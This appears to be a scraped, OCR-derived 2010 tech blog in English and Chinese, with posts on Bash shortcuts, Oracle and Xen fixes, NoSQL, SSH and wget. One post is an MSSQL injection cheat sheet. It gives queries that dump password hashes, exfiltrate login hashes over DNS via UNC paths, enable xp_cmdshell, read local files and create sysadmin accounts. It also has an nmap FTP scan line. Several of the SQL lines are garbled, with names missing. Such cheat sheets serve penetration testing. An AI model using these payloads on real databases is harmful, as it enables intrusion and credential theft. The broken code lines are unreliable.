Thursday, February 25, 2010

Bash Shell Keyboard shortcuts

The following shortcuts work when using default (Emacs) key bindings. Vi-bindings can be enabled by running [cci]set -o vi[/cci].

[cci]Tab ⇆[/cci] : Autocompletes from the cursor position.
[cci]Ctrl+a[/cci] : moves the cursor at the beginning of the line (equivalent to the key [cci]Home[/cci]).
[cci]Ctrl+e[/cci] : (end) moves the cursor at the line end (equivalent to the key [cci]End[/cci]).
[cci]Ctrl+p[/cci] : (previous) recalls the previous command (equivalent to the key [cci]↑[/cci]).
[cci]Ctrl+n[/cci] : (next) recalls the next command (equivalent to the key [cci]↓[/cci]).
[cci]Ctrl+r[/cci] : (research) recalls the last command including the specified character(s). A second [cci]Ctrl+r[/cci] recalls the next anterior command which corresponds to the research
[cci]Ctrl+s[/cci] : Go back to the next more recent command of the research (beware to not execute it from a terminal because this command also launches its XOFF). If you changed that XOFF setting, use [cci]Ctrl+q[/cci] to return.
[cci]Ctrl+o[/cci] : executes the found command from research.
[cci]Ctrl+l[/cci] : clears the screen content (equivalent to the command clear).
[cci]Ctrl+u[/cci] : clears the line content before the cursor and copy it in the clipboard.
[cci]Ctrl+k[/cci] : clears the line content after the cursor and copy it in the clipboard.
[cci]Ctrl+w[/cci] : clears the word before the cursor and copy it in the clipboard.[cci]Ctrl+y[/cci] : (yank) adds the clipboard content from the cursor position.
[cci]Ctrl+d[/cci] : sends an EOF marker, which (unless disabledby an option) closes the current shell (equivalent to the command exit).
[cci]Ctrl+c[/cci] : sends the signal SIGINT to the current task, which aborts and closes it.
[cci]Ctrl+z[/cci] : sends the signal SIGTSTP to the current task, which suspends it. To return to it later one can enter fg 'process name' (foreground).
[cci]Ctrl+x Ctrl+x[/cci] : (because x has a crossing shape) alternates the cursor with its old position.
[cci]Ctrl+x Ctrl+e[/cci] : (editor because it takes the $EDITOR shell variable) edits the current line in vi.
[cci]Alt+f[/cci] : (forward) moves forward the cursor of one word.
[cci]Alt+b[/cci] : (backward) moves backward the cursor of one word.
[cci]Alt+Del[/cci] : cuts the word before the cursor.
[cci]Alt+d[/cci] : cuts the word after the cursor.
[cci]Alt+u[/cci] : capitalizes every character from the cursor's position to the end of the current word.
[cci]Alt+l[/cci] : lowers the case of every character from the cursor's position to the end of the current word.
[cci]Alt+c[/cci] : capitalizes the character under the cursor and moves to the end of the word.
[cci]Alt+r[/cci] : cancels the changes and put back the line as it was in the history.

Wednesday, February 24, 2010


今天在Xen上运行了两个2GB内存实例的CentOS5.3虚拟机安装oracle10g, 可是一直出现
Configuration assistant "Oracle Net Configuration Assistant" failed

[cc lang='bash' ] ./runInstaller -silent -ignoreSysPrereqs -responseFile   /home/oracle/database/install/response/ee.rsp[/cc]




[cc]lsnrctl start[/cc]

由于是动态监听.所以要大概30秒之后启动成功,注意是要在 PMON 服务进程启动成功之后才能运行 [cci]lsnrctl start[/cci]. 也就是说要在[cci]/opt/oracle/product/10.2.01/db_1/cfgtoollogs/configToolAllCommands[/cci] 脚本建立数据库完成,创建实例并成功启动之后,也就是大概脚本运行到80%左右的时候.最后启动 em Web管理.

[cc] emctl start dbconsole[/cc]


[cc] emca -config dbcontrol db -repos recreate[/cc]


后来发现是因为缺少 而不能启动的(我想oracle应该有trace的工具,但是我现在还不知道怎么用,就想gdb或者strace一样?),于是在CentOS5.3上安装了 libXp 的RPM问题解决.


Logging In to Xen Console After Receiving "xenconsole: Could not open tty" Error

So you try and log in to a domU and xen says it can’t open a tty?
[cc lang="text"]
[tres@calliope ~]$ sudo xm console xen-domu.vm
xenconsole: Could not open tty`/dev/pts/15': No such file or directory
This error normally happens when xenconsoled is no longer running. You can quickly verify by looking for the xenconsoled process:

[tres@calliope ~]$ ps auxwww | grep xenconsoled
[tres@calliope ~]$[/cc]
If you don’t find it, just run[cc lang="text"]
/etc/init.d/xend start[/cc]

Tuesday, February 23, 2010

Key-Value 系統 分類整理 (NoSQL)

一般使用的 DB 統稱是 RDBMS(MSSQL、MySQL ... 等), 現在因為雲端運算的興起, Key-Value 的系統也漸漸紅了起來, 那到底有哪些 Key-Value system 可以用呢?

此篇文章 A Yes for a NoSQL Taxonomy 主要是這篇 NoSQL is a Horseless Carriage 簡報的整理.

此簡報將 Key-Value 的系統分成幾個類別, 並將這些資料整理出來. (下述內容主要取自簡報, 另外補上 連結 和 簡介.)

註: 下述連結有可能有誤, 有些系統不熟, 若有錯誤麻煩請隨時糾正我. orz.



Tuesday, February 9, 2010

MSSQL Injection Cheat Sheet

VersionSELECT @@version
CommentsSELECT 1 -- comment
SELECT /*comment*/1
Current UserSELECT user_name();
SELECT system_user;
SELECT user;
SELECT loginame FROM master..sysprocesses WHERE spid = @@SPID
List UsersSELECT name FROM master..sysloginsList Password HashesSELECT name, password FROM master..sysxlogins -- priv, mssql 2000;
SELECT name, master.dbo.fn_varbintohexstr(password) FROM master..sysxlogins -- priv, mssql 2000.  Need to convert to hex to return hashes in MSSQL error message / some version of query analyzer.
SELECT name, password_hash FROM master.sys.sql_logins -- priv, mssql 2005;
SELECT name + '-' + master.sys.fn_varbintohexstr(password_hash) from master.sys.sql_logins -- priv, mssql 2005
List PrivilegesImpossible?
List DBA AccountsTODO
SELECT is_srvrolemember('sysadmin'); -- is your account a sysadmin?  returns 1 for true, 0 for false, NULL for invalid role.  Also try 'bulkadmin', 'systemadmin' and other values from thedocumentation
SELECT is_srvrolemember('sysadmin', 'sa'); -- is sa a sysadmin? return 1 for true, 0 for false, NULL for invalid role/username.
Current DatabaseSELECT DB_NAME()
List DatabasesSELECT name FROMmaster..sysdatabases;
SELECT DB_NAME(N); -- for N = 0, 1, 2, ...
List ColumnsSELECT name FROM syscolumns WHERE id = (SELECT id FROM sysobjects WHERE name = 'mytable'); -- for the current DB only
SELECT, TYPE_NAME(master..syscolumns.xtype) FROM master..syscolumns, master..sysobjects WHERE AND'sometable'; -- list colum names and types for master..sometable
List TablesSELECT name FROM master..sysobjects WHERE xtype = 'U'; -- use xtype = 'V' for views
SELECT name FROM someotherdb..sysobjects WHERE xtype = 'U';
SELECT, TYPE_NAME(master..syscolumns.xtype) FROM master..syscolumns, master..sysobjects WHERE AND'sometable'; -- list colum names and types for master..sometable
Find Tables From Column Name-- NB: This exampleworks only for the current database.  If you wan't to search another db, you need to specify the db name (e.g. replace sysobject with mydb..sysobjects).
SELECT as tablename, as columnname FROM sysobjects JOIN syscolumns ON = WHERE sysobjects.xtype = 'U' AND LIKE '%PASSWORD%' -- this lists table, column for each column containing the word 'password'
Select Nth RowSELECT TOP 1 name FROM (SELECT TOP 9 name FROM master..syslogins ORDER BY name ASC) sq ORDER BY name DESC -- gets 9th row
Select Nth CharSELECT substring('abcd', 3, 1) -- returns c
Bitwise ANDSELECT 6 & 2 -- returns 2
SELECT 6 & 1 -- returns 0
ASCII Value -> CharSELECT char(0x41) -- returns A
Char -> ASCII ValueSELECT ascii('A') - returns 65
CastingSELECT CAST('1' as int);
SELECT CAST(1 as char)
String ConcatenationSELECT 'A' + 'B' - returns AB
If StatementIF (1=1) SELECT 1 ELSE SELECT 2 -- returns 1
Case StatementSELECT CASE WHEN 1=1 THEN 1 ELSE 2 END -- returns 1
Avoiding QuotesSELECT char(65)+char(66) -- returns AB
Time DelayWAITFOR DELAY '0:0:5' -- pause for 5 seconds
Make DNS Requestsdeclare @host varchar(800); select @host = name FROM master..syslogins; exec('master..xp_getfiledetails ''\\' + @host + '\c$\boot.ini'''); -- nonpriv, works on 2000

declare @host varchar(800); select @host = name + '-' + master.sys.fn_varbintohexstr(password_hash) + '' from sys.sql_logins; exec('xp_fileexist ''\\' + @host + '\c$\boot.ini'''); -- priv, works on 2005-- NB: Concatenation is not allowed in calls to these SPs, hence why we have to use @host.  Messy but necessary.
-- Also check out theDNS tunnel feature of sqlninja
Command ExecutionEXEC xp_cmdshell 'net user'; -- priv

On MSSQL 2005 you may need to reactivate xp_cmdshell first as it's disabled by default:
EXEC sp_configure 'show advanced options', 1; -- priv
EXEC sp_configure 'xp_cmdshell', 1; -- priv
Local File AccessCREATE TABLE mydata (line varchar(8000));
BULK INSERT mydata FROM 'c:\boot.ini';
DROP TABLE mydata;
Hostname, IP AddressSELECT HOST_NAME()
Create UsersEXEC sp_addlogin 'user', 'pass'; -- priv
Drop UsersEXEC sp_droplogin 'user'; -- priv
Make User DBAEXEC master.dbo.sp_addsrvrolemember 'user', 'sysadmin; -- privLocation of DB filesTODO

Use nmap scan FTP server how to

[cc lang="bash"]nmap -p T:21 -T4 -A -n[/cc]

Sunday, February 7, 2010

How to keep alive with ssh server

[cc lang="bash"]ssh -o TCPKeepAlive[/cc]

or add follw to your [cci]$HOME/.ssh/config[/cci] file

[cc]ServerAliveInterval 60[/cc]

Friday, February 5, 2010

Download file use bash script and wget

[cc lang="bash"]
while read line
#c=`expr $c + 1`
#echo -e "$line \n"
file1=`echo -e $line| awk -F" " '{ print $1 }'`
file2=`echo -e $line| awk -F" " '{ print $2 }'`
dir1=$DOWN_DIR`echo $file2| awk -F"/" '{ print $1"/"$2 }'`
mkdir -p $dir1
wget $file1 -O $DOWN_DIR${file2}.jpg
#if [ $c -lt 3 ];then
done < "/home/fred/src/db.txt"


[cc lang="bash"]$ dmidecode |grep -A16  "Memory Device$"[/cc]Oracle Workforce Development Program

Oracle Workforce Development Program 简称WDP,中文为“甲骨文职业发展计划”,目的在于让更多的非专业DBA拿到OCP认证,目前WDP在国内大力推广,在重庆我也报名了。15天的课程被压缩到12天(每天多上几个小时?)。价格为10700,优惠为10350。但是今天却有人说(免费给C-BASE广告一下):

重庆ORACLE WDP_suki(1142980521) 2010-2-4 11:25:15

ORACLE WDP西南中心和成都高新区合作.如公司在高新区注册及办公的公司员工学习OCP原厂培训三门课程+三门考试+1K的原厂教材仅需5350元...详情咨询023-78563505 刘小姐



Wednesday, February 3, 2010

Hello Oracle One

今天把从2006开始的BLOG迁移到了DH上面,域名换成了。因为我现在已经是Oracle的fans了 ;)


Oracle One, This is!